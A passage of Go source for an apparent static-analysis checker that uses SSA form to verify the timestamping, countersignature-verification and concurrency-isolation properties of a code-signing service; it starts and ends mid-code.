					if (bo.Op == token.NEQ && kind == IsTrue) || (bo.Op == token.EQL && kind == IsFalse) {
						covered["Timestamper"] = true
						return true
					}
				}
			}
		}
		// a named boolean: `want := kconf.Timestamp || kconf.Timestamper != ""` is a phi of the constant
		// true (entered from the test of Timestamp) and the second test
		if ph, ok := v.(*ssa.Phi); ok && kind == IsTrue {
			all := len(ph.Edges) > 0
			for i, e := range ph.Edges {
				if b, isK := boolConst(e); isK {
					pb := ph.Block().Preds[i]
					ifi, isIf := pb.Instrs[len(pb.Instrs)-1].(*ssa.If)
					if !b || !isIf || !wantsVal(ifi.Cond, IsTrue, depth+1) {
						all = false
					}
					continue
				}
				if !wantsVal(e, IsTrue, depth+1) {
					all = false
				}
			}
			return all
		}
		return false
	}
	wants := Guard{Match: func(f Fact) bool { return wantsVal(f.V, f.Kind, 0) }}
	optOut := Guard{Match: func(f Fact) bool {
		call, _ := resultOf(f.V)
		if call != nil && p.calleeName(call.Common()) == "(*signers.FlagValues).GetBool" && f.Kind == IsTrue {
			if s, ok := constString(call.Common().Args[1]); ok && s == "no-timestamp" {
				return true
			}
		}
		return false
	}}
	wantEdges := passEdges(in, wants)
	del2 := passEdges(in, optOut)
	for _, pb := range store.Block().Preds {
		for si, s := range pb.Succs {
			if s == store.Block() {
				del2[edge{pb.Index, si}] = true
			}
		}
	}
	var starts []*ssa.BasicBlock
	for e := range wantEdges {
		if t := in.Blocks[e.from].Succs[e.succ]; t != store.Block() {
			// an edge into the block that merges the wishes into a named boolean is covered by the test of that boolean
			merged := false
			for _, ins := range t.Instrs {
				if ph, ok := ins.(*ssa.Phi); ok && wantsVal(ph, IsTrue, 0) {
					merged = true
				}
			}
			if !merged {
				starts = append(starts, t)
			}
		}
	}
	pred := map[int]int{}
	seen := reach(in, starts, del2, pred)
	bad := false
	var path []string
	for _, ret := range p.successReturns(in) {
		if seen[ret.Block().Index] {
			bad = true
			path = p.witness(in, pred, ret.Block().Index)
		}
	}
	c.Check(!bad && len(wantEdges) >= 1 && covered["Timestamp"] && covered["Timestamper"], r, "internal/signinit.Init installs timestamper", p.Pos(store.Pos()), "whenever the key sets `timestamp` or names a `timestamper`, Init either installs one, fails, or the caller opted out", "Init can succeed without installing the Timestamper although the key configuration asks for a timestamp (timestamp: true or a named timestamper)", path...)
	// and the timestamper installed selects the configured pool
	okName := dependsOn(store.Val, func(x ssa.Value) bool {
		_, f, _ := p.fieldLoad(x)
		return f == "Timestamper"
	})
	c.Check(okName, r, "internal/signinit.Init selects configured authority pool", p.Pos(store.Pos()), "namedTimestamper{name: kconf.Timestamper}", "the installed timestamper ignores the key's configured authority pool")
	// what is installed is a timestamper, not nil: a value boxed here, or the result of a helper
	// that cannot answer (nil, nil)
	nilable := ""
	switch v := stripConv(store.Val).(type) {
	case *ssa.MakeInterface:
	case *ssa.Extract:
		if call, ok := v.Tuple.(*ssa.Call); ok {
			if sc := call.Common().StaticCallee(); sc != nil && len(sc.Blocks) > 0 {
				ei := errResultIndex(sc.Signature)
				for _, ret := range returnsOf(sc) {
					if v.Index >= len(ret.Results) || ei < 0 || ei >= len(ret.Results) {
						continue
					}
					if p.mayBeNil(ret.Results[v.Index], map[ssa.Value]bool{}) && p.mayBeNil(ret.Results[ei], map[ssa.Value]bool{}) && !p.knownNonNilAt(sc, ret.Results[ei], ret.Block()) {
						nilable = p.FName(sc) + " can return no timestamper together with a nil error (return at " + p.Pos(ret.Pos()) + ")"
					}
				}
			} else {
				nilable = "the result of a call that cannot be examined"
			}
		}
	default:
		if p.mayBeNil(store.Val, map[ssa.Value]bool{}) {
			nilable = "a value that may be nil"
		}
	}
	c.Check(nilable == "", r, "internal/signinit.Init installs a timestamper that is not nil", p.Pos(store.Pos()), "", "what Init stores into cert.Timestamper may be nil while Init succeeds ("+nilable+"): every signer treats a nil Timestamper as 'no timestamp wanted', so keys configured with `timestamp: true` are signed without one and nothing reports it")
}

// c10AttemptFn: the function of lib/pkcs9/tsclient that makes one attempt with one authority -
// the one that sends the HTTP request. Found by what it does, so that renaming it or turning
// the method into a plain function changes nothing.
func c10AttemptFn(p *Prog) *ssa.Function {
	var out *ssa.Function
	for _, fn := range p.pkgFuncs("lib/pkcs9/tsclient") {
		if len(p.callsIn(fn, "(*net/http.Client).Do")) > 0 {
			if out != nil {
				return nil
			}
			out = fn
		}
	}
	return out
}

func c10Failover(c *Ctx) {
	p := c.P
	const r = "R10d"
	fn := p.Func("lib/pkcs9/tsclient.(tsClient).Timestamp")
	if fn == nil {
		c.Undecided(r, "tsClient.Timestamp", "-", "function not found")
		return
	}
	c.Analysed(p.FName(fn))
	fname := p.FName(fn)
	var dos []ssa.CallInstruction
	if at := c10AttemptFn(p); at != nil {
		for _, ci := range callsOf(fn) {
			if ci.Common().StaticCallee() == at {
				dos = append(dos, ci)
			}
		}
	}
	if len(dos) != 1 {
		c.Undecided(r, fname+" attempt", p.Pos(fn.Pos()), fmt.Sprintf("%d calls to do", len(dos)))
		return
	}
	do := dos[0].(*ssa.Call)
	var tok, derr ssa.Value
	for _, ref := range *do.Referrers() {
		if e, ok := ref.(*ssa.Extract); ok {
			if e.Index == 0 {
				tok = e
			} else {
				derr = e
			}
		}
	}
	db := do.Block()
	if !inCycleWith(fn, db, nil) {
		c.Fail(r, fname+" loop", p.Pos(do.Pos()), "the attempt is not inside a loop over the configured authorities: no failover")
		return
	}
	// ordered: the url argument is urls[i] with i an induction variable stepping by +1
	// the url argument: the one string argument of the attempt
	var urlArg ssa.Value
	for _, a := range do.Call.Args {
		if bt, ok := a.Type().Underlying().(*types.Basic); ok && bt.Kind() == types.String {
			urlArg = a
		}
	}
	ordered := false
	if l, ok := urlArg.(*ssa.UnOp); ok && l.Op == token.MUL {
		if ia, ok := l.X.(*ssa.IndexAddr); ok {
			idx := ia.Index
			if add, ok := idx.(*ssa.BinOp); ok && add.Op == token.ADD && isIntConst(add.Y, 1) {
				idx = add.X // go/ssa's range loops index with the already incremented counter
			}
			if ph, ok := idx.(*ssa.Phi); ok {
				for _, e := range ph.Edges {
					if add, ok := e.(*ssa.BinOp); ok && add.Op == token.ADD && add.X == ph && isIntConst(add.Y, 1) {
						ordered = true
					}
				}
			}
			// the slice iterated is a configuration list
			cfg := dependsOn(ia.X, func(x ssa.Value) bool {
				_, f, _ := p.fieldLoad(x)
				return f == "URLs" || f == "MsURLs" || f == "NamedURLs"
			})
			ordered = ordered && cfg
		}
	}
	c.Check(ordered, r, fname+" ordered iteration", p.Pos(do.Pos()), "url = urls[i], i ascending, urls from the configuration", "authorities are not tried in configured order")
	if derr == nil {
		c.Fail(r, fname+" attempt error", p.Pos(do.Pos()), "attempt error discarded")
		return
	}
	// failure continues to the next attempt unless ctx ended
	// the context must be the caller's own: one that this function wrapped with a deadline
	// (WithTimeout / WithDeadline) also ends when a single slow authority used up the budget
	derivedHere := func(v ssa.Value) bool {
		return dependsOn(v, func(x ssa.Value) bool {
			call, ok := x.(*ssa.Call)
			if !ok {
				return false
			}
			n := p.calleeName(call.Common())
			return n == "context.WithTimeout" || n == "context.WithDeadline"
		})
	}
	ctxEnded := Guard{Match: func(f Fact) bool {
		call, _ := resultOf(f.V)
		if f.Kind != NonNil || call == nil || p.calleeName(call.Common()) != "(context.Context).Err" {
			return false
		}
		return !derivedHere(call.Common().Value)
	}}
	var failStarts []*ssa.BasicBlock
	// direct tests of this attempt's error only (the loop-carried `err` variable is tested
	// again at the top of the next iteration, which is already a new attempt)
	for e := range passEdges(fn, Guard{Match: func(f Fact) bool { return f.Kind == NonNil && stripConv(f.V) == derr }}) {
		failStarts = append(failStarts, fn.Blocks[e.from].Succs[e.succ])
	}
	del := passEdges(fn, ctxEnded)
	// we are on the failure side: edges that require the attempt's error to be nil are infeasible
	for e := range passEdges(fn, Guard{Match: func(f Fact) bool { return f.Kind == IsNil && stripConv(f.V) == derr }}) {
		del[e] = true
	}
	cont := len(failStarts) > 0 && reach(fn, failStarts, del, nil)[db.Index]
	c.Check(cont, r, fname+" failure tries next authority", p.Pos(do.Pos()), "a failed attempt reaches the next attempt while the context is live", "a failed attempt does not lead to the next configured authority")
	// the only early exit a failed attempt may take is "the caller's context ended"; every
	// other failure (HTTP error, hang/timeout of this authority, bad reply) must fall through
	// to the next authority. Cut: new attempts, the ctx-ended edges, and the loop's own
	// exhaustion exit; any return still reachable is a premature end of the failover.
	{
		del3 := map[edge]bool{}
		for e := range del {
			del3[e] = true
		}
		for _, b := range fn.Blocks {
			for si, s := range b.Succs {
				if s == db {
					del3[edge{b.Index, si}] = true
				}
			}
			if ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If); ok {
				if bo, ok := ifi.Cond.(*ssa.BinOp); ok && bo.Op == token.LSS {
					if l, ok := urlArg.(*ssa.UnOp); ok {
						if ia, ok := l.X.(*ssa.IndexAddr); ok && bo.X == ia.Index {
							del3[edge{b.Index, 1}] = true // loop exhausted
						}
					}
				}
			}
		}
		pred := map[int]int{}
		seen := reach(fn, failStarts, del3, pred)
		bad := false
		var path []string
		for _, ret := range returnsOf(fn) {
			if seen[ret.Block().Index] {
				bad = true
				path = p.witness(fn, pred, ret.Block().Index)
			}
		}
		c.Check(!bad, r, fname+" only caller cancellation ends the failover early", p.Pos(do.Pos()), "a failed attempt returns early only when ctx.Err() != nil", "a failed attempt can end the failover for a reason other than the caller's context having ended (e.g. this authority's own timeout): later authorities are never tried", path...)
	}
	// returns reachable from failure without another attempt carry a non-nil error
	into := map[edge]bool{}
	for _, b := range fn.Blocks {
		for si, s := range b.Succs {
			if s == db {
				into[edge{b.Index, si}] = true
			}
		}
	}
	seen := reach(fn, failStarts, into, nil)
	okExh := true
	for _, ret := range p.successReturns(fn) {
		if seen[ret.Block().Index] {
			okExh = false
		}
	}
	c.Check(okExh, r, fname+" exhaustion is an error", p.Pos(fn.Pos()), "no success return reachable from a failed attempt without a new attempt", "after failed attempts the client can return success without a token: the timestamp is silently omitted")
	// success returns the successful attempt's token
	okTok := false
	for _, ret := range p.successReturns(fn) {
		if stripConv(retVal(ret, 0)) == tok {
			okTok = true
		} else {
			okTok = false
			break
		}
	}
	c.Check(okTok, r, fname+" returns the attempt's token", p.Pos(fn.Pos()), "", "a success return does not carry the token of the successful attempt")
}

func c10VerifySide(c *Ctx) {
	p := c.P
	const r = "R10e"
	// who builds CounterSignature values
	allowed := map[string]bool{"lib/pkcs9.finishVerify": true, "lib/pkcs9.VerifyMicrosoftToken": true}
	n := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				a, ok := in.(*ssa.Alloc)
				if !ok {
					continue
				}
				pt, ok := a.Type().(*types.Pointer)
				if !ok || typeName(p, pt.Elem()) != "lib/pkcs9.CounterSignature" {
					continue
				}
				// only literals: some field of the fresh object is stored into
				stores := false
				for _, ref := range *a.Referrers() {
					if fa, ok := ref.(*ssa.FieldAddr); ok {
						for _, r2 := range *fa.Referrers() {
							if st, ok := r2.(*ssa.Store); ok && st.Addr == fa {
								stores = true
							}
						}
					}
				}
				if !stores {
					continue
				}
				n++
				c.Check(allowed[p.FName(fn)], r, fmt.Sprintf("%s builds CounterSignature", p.FName(fn)), p.Pos(a.Pos()), "constructed by a verifying function", "a CounterSignature is fabricated outside the verifying functions")
			}
		}
	}
	c.Check(n >= 2, r, "CounterSignature constructions", "-", "", "expected constructions in finishVerify and VerifyMicrosoftToken")
	blobParam, blobPath := 1, []int(nil)
	if fn := p.Func("lib/pkcs9.finishVerify"); fn != nil {
		c.Analysed(p.FName(fn))
		// the signer info and the blob are the ones the caller passed: parameters, or fields of a
		// parameter struct (blobParam/blobPath say where, for the callers' side below)
		g := p.callGuard("SignerInfo.Verify err==nil", []string{"(*lib/pkcs7.SignerInfo).Verify"}, 1, IsNil, func(ci ssa.CallInstruction) bool {
			a := ci.Common().Args
			_, _, ok0 := inputOf(fn, a[0])
			bp, bpath, ok1 := inputOf(fn, a[1])
			if ok0 && ok1 {
				blobParam, blobPath = bp, bpath
			}
			return ok0 && ok1
		})
		for i, ret := range p.successReturns(fn) {
			missing, path := p.unguardedFromEntry(fn, ret, g)
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s success-return#%d", p.FName(fn), i+1), p.Pos(ret.Pos()), "counter-signature accepted only if its signature over the blob verifies", "finishVerify succeeds without verifying the counter-signer's signature over the given blob", path...)
		}
	} else {
		c.Undecided(r, "pkcs9.finishVerify", "-", "function not found")
	}
	if fn := p.Func("lib/pkcs9.Verify"); fn != nil {
		c.Analysed(p.FName(fn))
		imp := p.callGuard("MessageImprint.Verify(data)==nil", []string{"(lib/pkcs9.MessageImprint).Verify"}, -1, IsNil, func(ci ssa.CallInstruction) bool {
			return ci.Common().Args[1] == fn.Params[1] && dependsOn(ci.Common().Args[0], func(x ssa.Value) bool {
				call, _ := resultOf(x)
				return call != nil && p.calleeName(call.Common()) == "lib/pkcs9.unpackTokenInfo"
			})
		})
		one := Guard{Name: "exactly one SignerInfo", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !isIntConst(bo.Y, 1) {
				return false
			}
			return (bo.Op == token.NEQ && f.Kind == IsFalse) || (bo.Op == token.EQL && f.Kind == IsTrue)
		}}
		for i, ci := range p.callsIn(fn, "lib/pkcs9.finishVerify") {
			missing, path := p.unguardedFromEntry(fn, ci, imp, one)
			// the blob verified is the TSTInfo content of this token, the SignerInfo is this token's
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s reaches finishVerify#%d", p.FName(fn), i+1), p.Pos(ci.Pos()), "imprint compared with the caller's data before the signature check", fmt.Sprintf("a timestamp token is accepted without %v", missing), path...)
		}
		for i, ret := range p.successReturns(fn) {
			call, _ := resultOf(retVal(ret, 0))
			c.Check(call != nil && p.calleeName(call.Common()) == "lib/pkcs9.finishVerify", r, fmt.Sprintf("%s success-return#%d", p.FName(fn), i+1), p.Pos(ret.Pos()), "", "Verify returns a counter-signature that did not come from finishVerify")
		}
	} else {
		c.Undecided(r, "pkcs9.Verify", "-", "function not found")
	}
	if fn := p.Func("lib/pkcs9.(MessageImprint).Verify"); fn != nil {
		c.Analysed(p.FName(fn))
		eq := p.callGuard("hmac.Equal(digest(data), HashedMessage)", []string{"crypto/hmac.Equal", "bytes.Equal", "crypto/subtle.ConstantTimeCompare"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
			a, b := ci.Common().Args[0], ci.Common().Args[1]
			fromData := func(v ssa.Value) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					call, ok := x.(*ssa.Call)
					return ok && p.calleeName(call.Common()) == "(hash.Hash).Sum"
				})
			}
			fromImprint := func(v ssa.Value) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					_, f, _ := p.fieldLoad(x)
					_, f2, _ := p.fieldAddr(x)
					return f == "HashedMessage" || f2 == "HashedMessage"
				})
			}
			return (fromData(a) && fromImprint(b)) || (fromData(b) && fromImprint(a))
		})
		for i, ret := range p.successReturns(fn) {
			missing, path := p.unguardedFromEntry(fn, ret, eq)
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s success-return#%d", p.FName(fn), i+1), p.Pos(ret.Pos()), "nil only when the digests are equal", "the imprint check can succeed without the digests being equal", path...)
		}
		// the data hashed is the parameter
		w := p.callsIn(fn, "(io.Writer).Write", "(hash.Hash).Write")
		okW := len(w) == 1 && len(fn.Params) > 1 && w[0].Common().Args[0] == fn.Params[1]
		c.Check(okW, r, p.FName(fn)+" hashes the given data", p.Pos(fn.Pos()), "", "the imprint is not computed over the data passed in")
	} else {
		c.Undecided(r, "MessageImprint.Verify", "-", "function not found")
	}
	if fn := p.Func("lib/pkcs9.VerifyMicrosoftToken"); fn != nil {
		c.Analysed(p.FName(fn))
		sig := p.callGuard("token signature verifies", []string{"(*lib/pkcs7.SignedData).Verify"}, 1, IsNil, nil)
		eq := p.callGuard("content == encryptedDigest", []string{"bytes.Equal", "crypto/hmac.Equal"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
			a, b := ci.Common().Args[0], ci.Common().Args[1]
			return a == fn.Params[1] || b == fn.Params[1]
		})
		for i, ret := range p.successReturns(fn) {
			missing, path := p.unguardedFromEntry(fn, ret, sig, eq)
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s success-return#%d", p.FName(fn), i+1), p.Pos(ret.Pos()), "legacy token accepted only if signed and covering this signature value", fmt.Sprintf("legacy token accepted without %v", missing), path...)
		}
	} else {
		c.Undecided(r, "pkcs9.VerifyMicrosoftToken", "-", "function not found")
	}
	if fn := p.Func("lib/pkcs9.VerifyPkcs7"); fn != nil {
		c.Analysed(p.FName(fn))
		n := 0
		for _, ci := range p.callsIn(fn, "lib/pkcs9.Verify", "lib/pkcs9.finishVerify") {
			n++
			var data ssa.Value
			if p.calleeName(ci.Common()) == "lib/pkcs9.finishVerify" {
				data = actualOf(ci.Common(), blobParam, blobPath)
			} else {
				data = ci.Common().Args[1]
			}
			f := ""
			if data != nil {
				_, f, _ = p.fieldLoad(data)
			}
			c.Check(f == "EncryptedDigest", r, fmt.Sprintf("%s checks against the parent signature value#%d", p.FName(fn), n), p.Pos(ci.Pos()), "data = sig.SignerInfo.EncryptedDigest", "the countersignature is not checked against the enclosing signature's value")
		}
		c.Check(n == 2, r, p.FName(fn)+" handles token and counterSignature forms", p.Pos(fn.Pos()), "", fmt.Sprintf("%d verification calls, expected 2", n))
	} else {
		c.Undecided(r, "pkcs9.VerifyPkcs7", "-", "function not found")
	}
	// R10f
	const rf = "R10f"
	if fn := p.Func("lib/pkcs9.(TimestampedSignature).VerifyChain"); fn == nil {
		c.Undecided(rf, "TimestampedSignature.VerifyChain", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		calls := p.callsIn(fn, "(lib/pkcs7.Signature).VerifyChain")
		if len(calls) != 1 {
			c.Fail(rf, p.FName(fn)+" primary chain check", p.Pos(fn.Pos()), fmt.Sprintf("%d calls to Signature.VerifyChain, expected 1", len(calls)))
		} else {
			tArg := c10ChainArg(p, calls[0], "time")
			if tArg == nil {
				c.Fail(rf, p.FName(fn)+" judged at attested time", p.Pos(calls[0].Pos()), "the time the primary chain is judged at is not passed (left at its zero value, or not recognised)")
				return
			}
			tsOK := p.callGuard("CounterSignature.VerifyChain()==nil", []string{"(lib/pkcs9.CounterSignature).VerifyChain"}, -1, IsNil, nil)
			okAll := true
			sawAttested := false
			for _, lf := range phiLeaves(tArg, calls[0].Block(), map[*ssa.Phi]bool{}) {
				_, f, _ := p.fieldLoad(lf.V)
				if f == "SigningTime" {
					sawAttested = true
					if _, isPhi := tArg.(*ssa.Phi); !isPhi {
						// not a merge: the attested time is read (and put into the options) at one place,
						// which has to lie behind the timestamp's own chain check
						if in, ok := lf.V.(ssa.Instruction); ok {
							if missing, _ := p.unguardedFromEntry(fn, in, tsOK); len(missing) > 0 {
								okAll = false
							}
						}
						continue
					}
					if leafUnguarded(fn, lf, tsOK) {
						okAll = false
					}
					continue
				}
				// zero time (no countersignature): a zero constant or a zero-initialised local
				if _, ok := lf.V.(*ssa.Const); ok {
					continue
				}
				if l, ok := lf.V.(*ssa.UnOp); ok && l.Op == token.MUL {
					if _, ok := l.X.(*ssa.Alloc); ok {
						continue
					}
				}
				okAll = false
			}
			// the time variable may be a local Alloc (struct): fall back to store analysis
			if !sawAttested {
				if l, ok := tArg.(*ssa.UnOp); ok && l.Op == token.MUL {
					if a, ok := l.X.(*ssa.Alloc); ok {
						for _, ref := range *a.Referrers() {
							if st, ok := ref.(*ssa.Store); ok && st.Addr == a {
								_, f, _ := p.fieldLoad(st.Val)
								if f == "SigningTime" {
									sawAttested = true
									missing, _ := p.unguardedFromEntry(fn, st, tsOK)
									if len(missing) > 0 {
										okAll = false
									}
								} else {
									okAll = false
								}
							}
						}
					}
				}
			}
			c.Check(okAll && sawAttested, rf, p.FName(fn)+" judged at attested time", p.Pos(calls[0].Pos()), "currentTime = CounterSignature.SigningTime after its chain verified, else zero (now)", "the primary chain is not judged at the countersignature's attested time, or that time is used before the timestamp's own chain was validated")
		}
	}
	if fn := p.Func("lib/pkcs9.(CounterSignature).VerifyChain"); fn == nil {
		c.Undecided(rf, "CounterSignature.VerifyChain", "-", "function not found")
	} else {
		calls := p.callsIn(fn, "(lib/pkcs7.Signature).VerifyChain")
		ok := len(calls) == 1
		if ok {
			tArg, uArg := c10ChainArg(p, calls[0], "time"), c10ChainArg(p, calls[0], "usage")
			f := ""
			if tArg != nil {
				_, f, _ = p.fieldLoad(tArg)
			}
			var k int64
			isK := false
			if uArg != nil {
				k, isK = constInt(uArg)
			}
			ok = f == "SigningTime" && isK && k == 8 // x509.ExtKeyUsageTimeStamping
		}
		c.Check(ok, rf, p.FName(fn)+" timestamping usage at its own time", p.Pos(fn.Pos()), "VerifyChain(…, ExtKeyUsageTimeStamping, cs.SigningTime)", "the timestamp's chain is not validated for the time-stamping usage at its signing time")
	}
	if fn := p.Func("lib/pkcs7.(Signature).VerifyChain"); fn != nil {
		// the currentTime parameter reaches x509.VerifyOptions.CurrentTime
		ok := false
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if st, ok2 := in.(*ssa.Store); ok2 {
					if _, f, _ := p.fieldAddr(st.Addr); f == "CurrentTime" {
						if _, _, isIn := inputOf(fn, st.Val); isIn {
							ok = true
						}
					}
				}
			}
		}
		c.Check(ok, rf, p.FName(fn)+" uses the given time", p.Pos(fn.Pos()), "VerifyOptions.CurrentTime = currentTime", "the chain verifier ignores the time it is given")
	} else {
		c.Undecided(rf, "pkcs7.Signature.VerifyChain", "-", "function not found")
	}
}

// ------------------------------------------------------------------------------ R10g

// c10Attested: (a) the time a counter-signature attests is read from authenticated attributes
// only; (b) the self-check that covers a freshly attached token runs after the token was attached.
func c10Attested(c *Ctx) {
	p := c.P
	c.Rule("R10g", "attested time comes from authenticated attributes only; the self-check runs on the structure that already carries the token", 3)
	n := 0
	for _, rel := range []string{"lib/pkcs7", "lib/pkcs9"} {
		for _, fn := range p.pkgFuncs(rel) {
			res := fn.Signature.Results()
			hasTime := false
			for i := 0; i < res.Len(); i++ {
				if res.At(i).Type().String() == "time.Time" {
					hasTime = true
				}
			}
			if !hasTime {
				continue
			}
			n++
			bad := ""
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					var tn, fld string
					switch x := in.(type) {
					case *ssa.FieldAddr:
						tn, fld, _ = p.fieldAddr(x)
					case *ssa.Field:
						tn, fld, _ = p.fieldLoad(x)
					}
					if strings.HasSuffix(tn, "pkcs7.SignerInfo") && fld == "UnauthenticatedAttributes" {
						bad = p.Pos(in.Pos())
					}
				}
			}
			c.Analysed(p.FName(fn))
			c.Check(bad == "", "R10g", p.FName(fn)+" reads time from authenticated data only", p.Pos(fn.Pos()), "", "a function that yields the attested signing time reads SignerInfo.UnauthenticatedAttributes ("+bad+"): anyone can add an unauthenticated signingTime to a file, and the certificate chain is then judged at a time nobody attested")
		}
	}
	if n < 2 {
		c.Undecided("R10g", "time-yielding functions", "-", fmt.Sprintf("only %d functions returning time.Time found in lib/pkcs7|pkcs9 (2+ confirmed by reading)", n))
	}
	tm := p.Func("lib/pkcs9.TimestampAndMarshal")
	if tm == nil {
		c.Undecided("R10g", "TimestampAndMarshal", "-", "function not found")
		return
	}
	c.Analysed(p.FName(tm))
	ver := p.callsIn(tm, "(*lib/pkcs7.SignedData).Verify")
	vot := p.callsIn(tm, "lib/pkcs9.VerifyOptionalTimestamp")
	adds := p.callsIn(tm, "lib/pkcs9.AddStampToSignedAuthenticode", "lib/pkcs9.AddStampToSignedData")
	// two calls, one per OID - or one call through a variable that holds either function
	nAttach := len(adds)
	if len(adds) == 1 && len(p.mayCall(adds[0].Common())) == 2 {
		nAttach = 2
	}
	ok := len(ver) == 1 && len(vot) == 1 && nAttach == 2
	if ok {
		// the verified snapshot handed to VerifyOptionalTimestamp is the result of that Verify
		call, idx := resultOf(vot[0].Common().Args[0])
		ok = call == ver[0] && idx == 0
		for _, a := range adds {
			if reachableAfter(tm, ver[0], a, nil, nil) {
				ok = false
			}
		}
	}
	c.Check(ok, "R10g", "TimestampAndMarshal self-checks after attaching the token", p.Pos(tm.Pos()), "no AddStampTo* call can follow the Verify whose result is checked for a timestamp", "the self-check (SignedData.Verify + VerifyOptionalTimestamp) can run before the timestamp token is attached: it inspects a snapshot that does not carry the token, so a wrong token (stale cache entry, other signature's token) is attached and shipped unverified")
}

// c10ChainArg: what a call of pkcs7.Signature.VerifyChain passes as the judging time ("time") or
// as the required key usage ("usage"): the argument, or the field of the options struct, that
// VerifyChain stores into x509.VerifyOptions.CurrentTime / KeyUsages. nil: not passed (zero value).
func c10ChainArg(p *Prog, call ssa.CallInstruction, which string) ssa.Value {
	vc := p.Func("lib/pkcs7.(Signature).VerifyChain")
	if vc == nil {
		return nil
	}
	for _, b := range vc.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok {
				continue
			}
			pi, path, isIn := inputOf(vc, st.Val)
			if !isIn {
				continue
			}
			hit := false
			switch which {
			case "time":
				_, f, _ := p.fieldAddr(st.Addr)
				hit = f == "CurrentTime"
			case "usage":
				hit = strings.HasSuffix(st.Val.Type().String(), "crypto/x509.ExtKeyUsage")
			}
			if hit {
				return actualOf(call.Common(), pi, path)
			}
		}
	}
	return nil
}
