package main

// C14 — concurrent requests are isolated and race-free.

import (
	"fmt"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C14",
		Meta: propMeta{
			Explanation: "Decides the structural part of request isolation: (R14a) no package-level variable of the module is written from code reachable from a concurrent entry point (every route handler, every HTTP middleware closure, the worker's RPC handler and health loop, the server's health loop, the worker-token monitor) unless the write holds a mutex, runs inside a sync.Once.Do closure, or is in the reasoned table (initialisation before the goroutine that shares the variable exists) — so no signer or helper can keep request state in a package variable; (R14b) lock discipline for the frozen table of shared objects: every access to Cache.keys, signinit.ts, WorkerToken.procs, Closed.err, the health counters and the PKCS#11 provider map holds the mutex that guards it (constructors of a not-yet-shared object excepted); (R14c) the per-request objects are fresh allocations: audit.New, signinit.Init's SignOpts and Signer.FlagsFromQuery return newly allocated values that do not alias package state; (R14d) shutdown waits: Daemon.Close runs httpServer.Shutdown before Server.Close inside the errgroup whose Wait it returns, and Server.Close signals the health loop before closing tokens; (R14e) an object handed back to a sync.Pool is not used again by the function that returned it (zero instances today; positive control in testdata/ctl/pool); (R14f) for each of the module's go statements, the spawning function does not use a mutable object it handed to the goroutine (captured variable or argument of pointer, map, slice or interface type without its own synchronisation) before a join (receive on a channel the goroutine signals, WaitGroup/errgroup Wait); R14b distinguishes shared (RLock) from exclusive holds, a write needs the exclusive one. R14c also covers signinit.InitKey (the certificate bundle Init writes the per-request timestamper into) and follows module constructors recursively; R14d also requires that Server.Close has no caller besides Daemon.Close's drain step and constructor clean-up paths that hand out no server; R14e also requires that memory put into a pool is not returned uncopied elsewhere and that a method pooling an object held in its receiver clears the field. (R14g) no closure with the signature of an HTTP handler captures a zerolog.Context from an enclosing scope: the per-request log context is derived inside the handler. (R14m) every conversion of a non-constant integer that is not already a Duration (and was not derived from one, from the clock or from a random source) into time.Duration is an operand of a multiplication with a constant unit of at least a microsecond: configured timeouts and the shutdown's drain deadline are not nanoseconds; (R14l) every method call from token/scdtoken into lib/assuan on the token's shared connection or key objects is made with scdToken.mu held (exported methods of the token and key types: the operations of a token in service): the multi-command card operations of overlapping requests cannot interleave. (R14k) no implementation of token.Token.GetKey stores its context parameter or a child of it into a struct field: the key object it returns is kept by the key cache and must not be tied to the request that fetched it. (R14j) Info.AppendTo opens the audit file with O_APPEND and writes each record, newline included, with exactly one Write call outside any loop (C06 R06e): records of concurrent requests cannot interleave. (R14i) no function reachable from a concurrent entry point calls pflag.Value.Set, FlagSet.Set/Parse/AddFlag or another mutating method of the option definitions, which are one object for all requests. (R14h) no function returns (*bytes.Buffer).Bytes() of a buffer that is a field of an object reached from a parameter or a package variable: scratch buffers of long-lived objects are not handed out. (R14n) a mutex held on every path reaching a return of the function that locked it is released by a deferred unlock (functions that never unlock it are lock helpers): a leaked lock blocks every later request.",
			NotDecided:  "race freedom of heap objects in general (no points-to / may-happen-in-parallel analysis is available: x/tools v0.29.0 has no go/pointer), deadlock freedom, response mix-ups inside net/http. The atomic/plain mix in internal/closeonce is only noted: its sole lock-free reader cannot overlap the writer (WorkerToken.Close waits for spawners first), so arming it would be a false alarm.",
			Assumptions: []string{"prometheus collectors, zerolog and rate.Limiter are internally synchronised", "sync.Once.Do runs its function once with a happens-before edge to every return of Do"},
		},
		Run: runC14,
	})
}

// concurrentEntries: functions that run concurrently with each other in the server / worker.
func (p *Prog) concurrentEntries(c *Ctx) []*ssa.Function {
	var out []*ssa.Function
	add := func(f *ssa.Function) {
		if f != nil {
			out = append(out, f)
		}
	}
	// route handlers (all registrations, public ones included)
	if h := p.Func("server.(*Server).Handler"); h != nil {
		for _, b := range h.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name, ok := isChiCall(p, ci.Common())
				if !ok || !chiRegister[name] {
					continue
				}
				for _, a := range chiArgs(ci.Common()) {
					if f := p.handlerFunc(a); f != nil {
						add(f)
					}
				}
			}
		}
	} else {
		c.Undecided("R14a", "(*Server).Handler", "-", "function not found")
	}
	for _, spec := range []string{
		"internal/authmodel.Middleware", "internal/realip.Middleware", "internal/zhttp.LoggingMiddleware", "internal/zhttp.RecoveryMiddleware", "lib/compresshttp.Middleware",
		"server.handleFunc", "cmdline/workercmd.(*handler).ServeHTTP", "cmdline/workercmd.(*handler).healthCheck",
		"server.(*Server).healthCheckLoop", "token/worker.(*WorkerToken).monitor",
	} {
